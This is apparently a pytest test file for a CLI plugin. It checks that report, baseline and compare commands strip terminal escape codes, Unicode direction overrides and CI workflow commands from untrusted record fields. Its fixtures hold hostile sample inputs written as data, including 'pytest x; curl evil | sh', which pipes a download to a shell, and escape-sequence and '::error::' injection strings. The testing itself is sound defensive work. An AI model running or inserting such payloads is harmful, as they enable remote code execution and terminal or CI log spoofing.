"""What the command line's programs print: every line is clean, whatever a record, a file or an argument holds."""

from __future__ import annotations

import io
import re
import sys
from pathlib import Path

import pytest
from runs_example import failing_run

from pytest_trtgate import text as fmt
from pytest_trtgate.cli import main
from pytest_trtgate.cli.saying import say
from pytest_trtgate.records import RunRecord, Verdict, save

PACKAGE = Path(fmt.__file__).parent
BAD = "\x1b]0;owned\x07\x1b[2J\u202e\n::error::owned ##[add-mask]x"


@pytest.mark.parametrize(
    ("text", "line"),
    [
        ("a\nb\r\nc", "a b c"),
        ("  indented, x  y", "  indented, x  y"),
        ("::error::x", ": :error::x"),
        (" \t::set-output name=a::b", " \t: :set-output name=a::b"),
        ("test.py::test_a[b]", "test.py::test_a[b]"),
        ("a ##[group]b ##vso[task.x]c ## d", "a ## [group]b ## vso[task.x]c ## d"),
        ("\x1b[31mred\x1b[0m\x07", "red\N{REPLACEMENT CHARACTER}"),
        ("caf\udce9", "caf\N{REPLACEMENT CHARACTER}"),
    ],
)
def test_a_line_that_leaves_is_one_clean_line_and_no_command_to_a_ci(text: str, line: str) -> None:
    assert fmt.safe_line(text) == line


def test_a_terminal_that_lacks_characters_gets_their_numbers(monkeypatch: pytest.MonkeyPatch) -> None:
    raw = io.BytesIO()
    monkeypatch.setattr(sys, "stdout", io.TextIOWrapper(raw, encoding="ascii"))
    say("größe \ud800")
    sys.stdout.flush()
    assert raw.getvalue() == b"gr\\xf6\\xdfe \\ufffd\n"


def test_nothing_in_the_plugin_writes_to_the_terminal_past_its_one_place() -> None:
    writing = re.compile(r"\.(?:write_line|write|line|section|write_sep)\(")
    found = {
        f"{path.stem}: {line.strip()}"
        for path in (PACKAGE / "plugin").glob("*.py")
        for line in path.read_text(encoding="utf-8").splitlines()
        if writing.search(line) and "safe_line" not in line
    }
    assert found == {
        'run: terminalreporter.section("trtgate")',
        "run: terminalreporter.write_line(line)  # a command to GitHub, as safe as any line",
        "writing: terminal._tw.line()",  # an empty one
    }


def spoiled() -> RunRecord:
    """A run whose sentences and commands were written by a stranger."""

    def changed(verdict: Verdict) -> Verdict:
        checks = [c.model_copy(update={"sentence": BAD + c.sentence, "name": BAD + c.name}) for c in verdict.checks]
        evil = dict.fromkeys(("accept", "accept_cell", "rerun"), f"pytest x; curl evil | sh {BAD}")
        return verdict.model_copy(update={**evil, "checks": tuple(checks), "summary": BAD, "log_tail": f"x\n{BAD}"})

    run = failing_run()
    update = {"verdicts": tuple(map(changed, run.verdicts)), "accept_cells": "curl evil", "command": "curl evil"}
    return run.model_copy(update={**update, "notes": (BAD,)})


@pytest.mark.parametrize(
    "command",
    [
        "report run.json --format markdown",
        "report run.json -o page.html",
        "baseline diff run.json",
        "baseline accept run.json",
        "baseline diff run.json --only ::error::\x1b[2J",
        "compare run.json run.json",
        "report \x1b[2Jmissing.json -o page.html",
        "report run.json -o page.\x1b[2J",
    ],
)
def test_no_command_repeats_what_a_stranger_wrote_for_a_terminal_or_a_ci(
    command: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    monkeypatch.chdir(tmp_path)
    save(tmp_path / "run.json", spoiled())
    main(command.split())
    said = capsys.readouterr()
    for text in (said.out, said.err):
        assert not re.search(r"[\x00-\x08\x0b-\x1f\x7f\u202e]|##\w*\[", text)
        assert not re.search(r"^\s*::", text, re.MULTILINE)
    assert "curl" not in said.out


def test_a_wrong_argument_is_repeated_clean(capsys: pytest.CaptureFixture[str]) -> None:
    with pytest.raises(SystemExit):
        main(["cache", "prune", "--older-than=\x1b[2J\n::error::x"])
    assert "\x1b" not in (said := capsys.readouterr().err)
    assert "\n::" not in said


def test_commands_to_paste_are_made_of_the_values_of_a_record(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    monkeypatch.chdir(tmp_path)
    run = failing_run()
    verdicts = [v.model_copy(update={"rerun": "curl evil", "accept": v.accept and "curl evil"}) for v in run.verdicts]
    save(tmp_path / "a b.json", run.model_copy(update={"verdicts": tuple(verdicts), "command": "curl evil"}))
    main(["report", "a b.json", "--format", "markdown"])
    said = capsys.readouterr().out
    fenced = re.findall(r"```sh\n(.*)\n```", said)
    assert "pytest -k shapes-fp16" in fenced
    assert "trtgate baseline accept 'a b.json' --only shapes-fp32-320-b1-onnxruntime-cpu" in fenced
    assert '```toml\n# pyproject.toml\n[tool.trtgate.accuracy.int8]\n"mAP50-95" = 0.0214\n```' in said
    assert "curl" not in said
    main(["report", "a b.json", "-o", "page.html"])
    assert "curl" not in (tmp_path / "page.html").read_text(encoding="utf-8").partition("application/json")[0]
